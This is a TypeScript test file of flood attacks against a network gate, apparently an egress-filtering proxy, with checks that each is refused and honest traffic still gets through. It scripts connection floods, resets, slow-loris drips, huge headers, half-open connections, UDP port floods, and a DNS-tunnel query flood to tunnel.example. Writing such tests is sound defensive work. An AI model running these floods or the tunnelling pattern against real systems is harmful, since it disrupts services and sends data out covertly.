/** Attacks on the gate's time and memory. After each, an honest request must be served. */
import assert from "node:assert/strict";
import { GATE, GOOD, GOOD_PORT, hex, type NetworkAttack, question, type Seen } from "./network-case.ts";

const AUTHORITY = `${GOOD}:${GOOD_PORT}`;
const REQUEST = `GET http://${AUTHORITY}/ HTTP/1.1\r\nHost: ${AUTHORITY}\r\n`;

const cutOff = ({ output }: Seen): void => assert.match(output, /cut after|408|400|431/);

export const FLOOD_ATTACKS: readonly NetworkAttack[] = [
	{
		name: "a thousand connections at once to a refused address",
		script: ({ port, token }) => `./net flood 93.184.216.34 ${port} 1000 ${hex(token)} 300`,
		refusal: { method: "TRANSPARENT", reason: "NOT_IN_ALLOWLIST" },
	},
	{
		name: "a thousand connections at once to the proxy, held",
		script: ({ token }) => `./net flood ${GATE} 9080 1000 ${hex(`GET http://x/${token}`)} 1200; sleep 1`,
		refusal: { method: "TRANSPARENT", reason: "OTHER", port: 0 },
	},
	{
		name: "connections that say nothing",
		script: () => `./net flood ${GATE} 9080 300 "" 300; sleep 1`,
	},
	{
		name: "connections cut as soon as they stand",
		script: ({ port, token }) =>
			`./net resets 93.184.216.34 ${port} 600 ${hex(token)}; ./net resets ${GATE} 9080 400 ${hex(token)}`,
		refusal: { reason: "NOT_IN_ALLOWLIST" },
	},
	{
		name: "slow loris: a request head byte by byte",
		script: ({ token }) => `./net drip ${GATE} 9080 ${hex(`${REQUEST}X-A: ${token}`)} 100`,
		check: cutOff,
	},
	{
		name: "slow loris: a first flight byte by byte",
		script: ({ token }) =>
			`./net drip 198.18.0.1 ${GOOD_PORT} ${hex(`GET /${token} HTTP/1.1\r\nHost: ${GOOD}\r\n`)} 100`,
	},
	{
		name: "a huge header",
		script: ({ token }) => `./net tcp ${GATE} 9080 ${hex(`${REQUEST}X-A: `)}${hex(token.padEnd(48, "."))}@2000`,
		refusal: { method: "HTTP", reason: "INVALID_DESTINATION", port: 0 },
	},
	{
		name: "a megabyte without an end to its line",
		script: ({ token }) => `./net tcp ${GATE} 9080 ${hex(token.padEnd(48, "."))}@20000`,
	},
	{
		name: "half-open connections",
		script: ({ port, token }) =>
			`for i in 1 2 3 4 5 6 7 8; do ./net half ${GATE} 9080 ${hex(`CONNECT 93.184.216.34:${port} HTTP/1.1\r\n${token}`)} & done; wait`,
	},
	{
		name: "a flood of datagrams to one port",
		script: ({ port, token }) => `./net datagrams 93.184.216.34 ${port} 5000 ${hex(token)}@20`,
		refusal: { method: "DATAGRAM", reason: "NOT_IN_ALLOWLIST" },
	},
	{
		name: "a flood of datagrams to a thousand ports",
		// A machine names so many a second and sums up the rest: the flood before this one shall be over.
		script: ({ token }) =>
			`sleep 1.2; ./net datagrams 93.184.216.34 30000 4000 ${hex(token)} 1000; ./net datagrams 2606:4700::9 30000 1000 ${hex(token)} 500`,
		refusal: { method: "DATAGRAM", reason: "NOT_IN_ALLOWLIST", port: 30_000 },
	},
	{
		name: "a flood of questions",
		script: ({ token }) => `./net datagrams ${GATE} 53 3000 ${hex(question(`${token}.tunnel.example`))}`,
		refusal: { method: "DNS", reason: "NOT_IN_ALLOWLIST", port: 53, host: "exfiltrated" },
	},
	{
		name: "a flood of tiny connections to an allowed loopback server",
		script: ({ token }) => `./net resets 127.0.0.1 8006 300 ${hex(`x${token.slice(0, 4)}`)}`,
	},
];
